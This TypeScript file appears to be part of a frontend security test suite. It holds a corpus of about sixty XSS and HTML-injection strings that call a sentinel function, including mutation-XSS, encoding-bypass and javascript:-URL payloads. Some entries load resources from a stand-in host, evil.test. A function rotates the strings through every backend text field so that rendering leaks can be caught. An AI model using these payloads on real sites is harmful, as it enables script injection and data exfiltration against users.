/**
 * HTML and script injection strings, placed in every text a backend supplies. Each one that ran
 * would call `__pxmPwned(n)`; each element it could inject carries `data-pxm-injected`. Covers
 * tags with handlers, script and style elements, URL schemes, attribute and element breakouts,
 * mutation XSS, template syntaxes, encodings, exfiltration by request, and custom elements.
 */
export const INJECTION_CORPUS: readonly string[] = [
  '<script>__pxmPwned(1)</script>',
  '<img src=x onerror=__pxmPwned(2) data-pxm-injected>',
  '<svg onload=__pxmPwned(3) data-pxm-injected>',
  '"><img src=x onerror=__pxmPwned(4) data-pxm-injected>',
  "'><script>__pxmPwned(5)</script>",
  '<iframe srcdoc="<script>parent.__pxmPwned(6)</script>" data-pxm-injected></iframe>',
  '<a href="javascript:__pxmPwned(7)" data-pxm-injected>click</a>',
  'javascript:__pxmPwned(8)',
  '<body onload=__pxmPwned(9)>',
  '<details open ontoggle=__pxmPwned(10) data-pxm-injected>',
  '<input autofocus onfocus=__pxmPwned(11) data-pxm-injected>',
  '<video><source onerror=__pxmPwned(12) data-pxm-injected></video>',
  "<style>@import 'http://evil.test/x.css';</style>",
  '<link rel=stylesheet href=//evil.test/x.css data-pxm-injected>',
  '<object data="javascript:__pxmPwned(15)" data-pxm-injected>',
  '<embed src="javascript:__pxmPwned(16)" data-pxm-injected>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__pxmPwned(17) data-pxm-injected>',
  '<noscript><p title="</noscript><img src=x onerror=__pxmPwned(18) data-pxm-injected>">',
  '${__pxmPwned(19)}',
  "{{constructor.constructor('__pxmPwned(20)')()}}",
  '<!--<img src=x onerror=__pxmPwned(21)>-->',
  ']]><script>__pxmPwned(22)</script>',
  '<form action="javascript:__pxmPwned(23)" data-pxm-injected><button>go</button></form>',
  '<base href="javascript:__pxmPwned(24)//" data-pxm-injected>',
  '<meta http-equiv="refresh" content="0;url=javascript:__pxmPwned(25)">',
  '<marquee onstart=__pxmPwned(26) data-pxm-injected>',
  '<template><img src=x onerror=__pxmPwned(27)></template>',
  '<slot name=x data-pxm-injected></slot>',
  '<pxm-survey token="demo-survey-open" data-pxm-injected></pxm-survey>',
  '<style>:host{display:none}</style>',
  '</textarea><img src=x onerror=__pxmPwned(31) data-pxm-injected>',
  '</title><img src=x onerror=__pxmPwned(32) data-pxm-injected>',
  '<IMG SRC=x OnErRoR=__pxmPwned(33) data-pxm-injected>',
  '<img src=x onerror="&#95;&#95;pxmPwned(34)" data-pxm-injected>',
  '&lt;script&gt;__pxmPwned(35)&lt;/script&gt;',
  '%3Cscript%3E__pxmPwned(36)%3C/script%3E',
  '\\u003cscript\\u003e__pxmPwned(37)\\u003c/script\\u003e',
  '<scr<script>ipt>__pxmPwned(38)</scr</script>ipt>',
  '<svg><script>__pxmPwned(39)</script></svg>',
  '<svg><a xlink:href="javascript:__pxmPwned(40)"><text>x</text></a></svg>',
  '<img src=x onerror="eval(atob(\'X19weG1Qd25lZCg0MSk=\'))" data-pxm-injected>',
  '<div style="background:url(javascript:__pxmPwned(42))" data-pxm-injected>',
  '<div style="width: expression(__pxmPwned(43))" data-pxm-injected>',
  '"onmouseover="__pxmPwned(44)',
  "' onfocus='__pxmPwned(45)' autofocus='",
  '<isindex action=javascript:__pxmPwned(46) type=image>',
  '<audio src=x onerror=__pxmPwned(47) data-pxm-injected>',
  '<keygen autofocus onfocus=__pxmPwned(48)>',
  '<select autofocus onfocus=__pxmPwned(49) data-pxm-injected>',
  '<textarea autofocus onfocus=__pxmPwned(50) data-pxm-injected>',
  '<x contenteditable onblur=__pxmPwned(51) data-pxm-injected>x',
  '<img srcset=",,,,,x" onerror=__pxmPwned(52) data-pxm-injected>',
  '\u202E<script>__pxmPwned(53)</script>',
  '<svg><animate onbegin=__pxmPwned(54) attributeName=x dur=1s data-pxm-injected>',
  '<iframe src="data:text/html,<script>parent.__pxmPwned(55)</script>" data-pxm-injected>',
  '<math href="javascript:__pxmPwned(56)">x</math>',
  '<a href="  jAvAsCrIpT:__pxmPwned(58)" data-pxm-injected>x</a>',
  '<img src=//evil.test/pixel.gif data-pxm-injected>',
  '<link rel=prefetch href=//evil.test/leak data-pxm-injected>',
  '<button popovertarget=x onclick=__pxmPwned(60) data-pxm-injected>',
];

/** Fields whose contract caps their length below the longest strings. */
const LIMITS: Array<[RegExp, number]> = [
  [/\.unit$/, 40],
  [/\.credentials$/, 100],
  [/\.shortLabel$/, 40],
  [/\.region$/, 100],
  [/\.(load|equipment\[\d+\])$/, 200],
  [/\.value$/, 200],
];

export function limitFor(path: string): number {
  return LIMITS.find(([pattern]) => pattern.test(path))?.[1] ?? 500;
}

/**
 * A rewrite that puts string `(round + n) % corpus` in the n-th text field met: over as many
 * rounds as the corpus has strings, every string lands in every field. A string too long for a
 * field's contract gives way to the next one that fits.
 */
export function injectionRewrite(round: number, placed: Array<{ path: string; text: string }>): (original: string, path: string) => string {
  let field = 0;
  return (_original, path) => {
    const limit = limitFor(path);
    for (let step = 0; step < INJECTION_CORPUS.length; step++) {
      const text = INJECTION_CORPUS[(round + field + step) % INJECTION_CORPUS.length]!;
      if (text.length <= limit) {
        field += 1;
        placed.push({ path, text });
        return text;
      }
    }
    return 'x';
  };
}
